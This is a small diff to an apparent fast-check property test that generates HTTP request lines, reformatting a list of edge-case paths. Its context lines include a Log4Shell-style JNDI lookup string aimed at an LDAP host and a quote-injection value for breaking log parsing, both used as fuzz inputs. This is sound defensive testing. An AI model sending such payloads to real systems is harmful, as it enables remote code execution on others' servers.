@@ -123,7 +123,15 @@ const target = fc.constantFrom(
     '/?x=$\u007bjndi:ldap://192.0.2.9/a}',
     '/x" 200 5 "',
   ],
-  ...[`/${'a'.repeat(600)}`, '', '/old.php?a=1', '/wp-admin/x.png', '/index.php?_method=trace', 'host:443', '/uploads/x.php'],
+  ...[
+    `/${'a'.repeat(600)}`,
+    '',
+    '/old.php?a=1',
+    '/wp-admin/x.png',
+    '/index.php?_method=trace',
+    'host:443',
+    '/uploads/x.php',
+  ],
 );
 const method = fc.constantFrom('GET', 'GET', 'POST', 'HEAD', 'CONNECT', 'FOO', 'get', '');
 const version = fc.constantFrom(' HTTP/1.1', ' HTTP/1.1', ' HTTP/2.0', ' HTTP/9.9', '');
